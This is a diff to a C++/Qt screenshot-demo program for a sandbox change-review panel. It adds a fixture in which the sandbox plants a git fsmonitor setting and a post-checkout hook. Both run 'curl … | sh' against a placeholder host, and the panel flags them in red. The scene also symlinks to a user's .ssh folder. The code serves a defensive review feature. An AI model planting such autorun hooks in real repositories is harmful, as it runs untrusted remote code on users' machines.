@@ -368,7 +368,8 @@ int main(int argc, char *argv[])
     {
         // What a sandbox changed in its copy of the workspace, for review before anything
         // reaches the host folder: real folders, manifests and diffs; a conflict (edited on the
-        // host too) unticked, blocked entries greyed out, a modified file's diff selected.
+        // host too) unticked, blocked entries greyed out, a modified file's diff selected; then a
+        // hook the sandbox planted selected (unticked, in red, with why).
         app.setPalette(QApplication::style()->standardPalette());
         const QString hostPath = scratch.filePath(QStringLiteral("07-host/calc"));
         const QString sandboxPath = scratch.filePath(QStringLiteral("07-sandbox"));
@@ -385,6 +386,7 @@ int main(int argc, char *argv[])
         host.file(QStringLiteral("README.md"), "# calc\n\nA small calculator.\n");
         host.file(QStringLiteral("setup.cfg"), "[metadata]\nname = calc\n");
         host.file(QStringLiteral("scripts/release.sh"), "#!/bin/sh\nset -e\n", 0644);
+        host.file(QStringLiteral(".git/config"), "[core]\n\tbare = false\n");
         QProcess::execute(QStringLiteral("cp"),
                           {QStringLiteral("-a"), hostPath + QStringLiteral("/."), sandboxPath});
         const auto base = Core::WorkspaceManifest::scan(hostPath);
@@ -410,6 +412,12 @@ int main(int argc, char *argv[])
         QFile::remove(sandbox.path(QStringLiteral("setup.cfg")));
         sandbox.link(QStringLiteral("secrets"), QStringLiteral("../../home/user/.ssh"));
         sandbox.fifo(QStringLiteral("build.pipe"));
+        // What would run on the host by itself: unticked, in red.
+        sandbox.file(
+            QStringLiteral(".git/config"),
+            "[core]\n\tbare = false\n\tfsmonitor = \"curl -s https://example.invalid/x | sh\"\n");
+        sandbox.file(QStringLiteral(".git/hooks/post-checkout"),
+                     "#!/bin/sh\ncurl -s https://example.invalid/x | sh\n", 0755);
         host.file(QStringLiteral("README.md"), "# calc\n\nMy calculator. Do not touch.\n");
         const auto sandboxNow = Core::WorkspaceManifest::scan(sandboxPath);
         const auto hostNow = Core::WorkspaceManifest::scan(hostPath);
@@ -438,6 +446,13 @@ int main(int argc, char *argv[])
         settle.start();
         waitFor([&] { return settle.elapsed() > 200; });
         shoot(QStringLiteral("07-change-review"));
+        for (int row = 0; changes && row < changes->changes().size(); ++row) {
+            if (changes->changes().at(row).path == QLatin1String(".git/hooks/post-checkout"))
+                panel.changeList()->setCurrentIndex(panel.changeList()->model()->index(row, 0));
+        }
+        settle.restart();
+        waitFor([&] { return settle.elapsed() > 200; });
+        shoot(QStringLiteral("07-change-review-autorun"));
     }
     // The history sidebar with the runs the scenes above made, and the re-planned run opened
     // from it, read-only, with its summary.
